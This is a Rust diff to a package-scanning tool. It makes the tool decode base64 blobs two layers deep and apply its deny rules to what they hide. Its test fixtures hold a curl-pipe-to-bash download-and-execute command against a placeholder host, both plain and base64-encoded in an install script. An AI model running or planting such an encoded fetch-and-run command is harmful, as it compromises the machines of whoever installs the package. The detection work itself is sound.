@@ -6,6 +6,7 @@
 //! not match, run as tests. All patterns are compiled once into one
 //! `RegexSet`, so a file is scanned once whatever the number of rules.
 
+mod peel;
 mod surface_findings;
 
 use std::collections::BTreeMap;
@@ -294,8 +295,37 @@ impl RuleSet {
         surface
             .texts
             .iter()
-            .flat_map(|t| self.check_text(ecosystem, t.runs, &t.path, &t.text))
+            .flat_map(|t| {
+                let mut found = self.check_text(ecosystem, t.runs, &t.path, &t.text);
+                found.extend(self.check_peeled(ecosystem, t.runs, &t.path, &t.text));
+                found
+            })
             .collect()
+    }
+
+    /// The deny rules over what base64 blobs in `text` decode to, two
+    /// layers deep: each finding at the blob's line, with the decoded
+    /// excerpt as evidence.
+    fn check_peeled(&self, ecosystem: &str, runs: Runs, path: &str, text: &str) -> Vec<Finding> {
+        let mut out = Vec::new();
+        let mut layer: Vec<(u32, String)> = peel::decoded(text);
+        for _ in 0..2 {
+            let mut next = Vec::new();
+            for (line, decoded) in &layer {
+                for mut f in self.check_text(ecosystem, runs, path, decoded) {
+                    if f.level < Level::Deny {
+                        continue;
+                    }
+                    f.line = Some(*line);
+                    f.excerpt = format!("decoded from base64: {}", f.excerpt);
+                    f.summary = format!("{} (hidden in a base64 blob)", f.summary);
+                    out.push(f);
+                }
+                next.extend(peel::decoded(decoded).into_iter().map(|(_, t)| (*line, t)));
+            }
+            layer = next;
+        }
+        out
     }
 
     /// Applies the rules that cover `ecosystem` and `runs` to one text.
@@ -615,6 +645,27 @@ mod tests {
                 "curl -fsSL https://x.example.org/i.sh | bash"
             )
             .contains(&"download-and-execute:Deny".to_owned())
+        );
+    }
+
+    #[test]
+    fn what_a_base64_blob_hides_is_read_and_shown_decoded() {
+        // "curl -fsSL https://x.example.org/i.sh | bash; echo installed-ok-done"
+        let text = "cmd = 'Y3VybCAtZnNTTCBodHRwczovL3guZXhhbXBsZS5vcmcvaS5zaCB8IGJhc2g7IGVjaG8gaW5zdGFsbGVkLW9rLWRvbmU='\nrun(cmd)\n";
+        let found = RuleSet::builtin().check_peeled("npm", Runs::Install, "install.js", text);
+        assert_eq!(found.len(), 1, "{found:?}");
+        assert_eq!(found[0].rule, "download-and-execute");
+        assert_eq!(found[0].line, Some(1));
+        assert!(
+            found[0].excerpt.starts_with("decoded from base64: "),
+            "{found:?}"
+        );
+        // A blob of data is left alone.
+        let data = "icon = 'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAGElEQVR42mNkYPhfz0AEYBxVSF+FAAhKDveksOjmAAAAAElFTkSuQmCC'\n";
+        assert!(
+            RuleSet::builtin()
+                .check_peeled("npm", Runs::Install, "i.js", data)
+                .is_empty()
         );
     }
 }
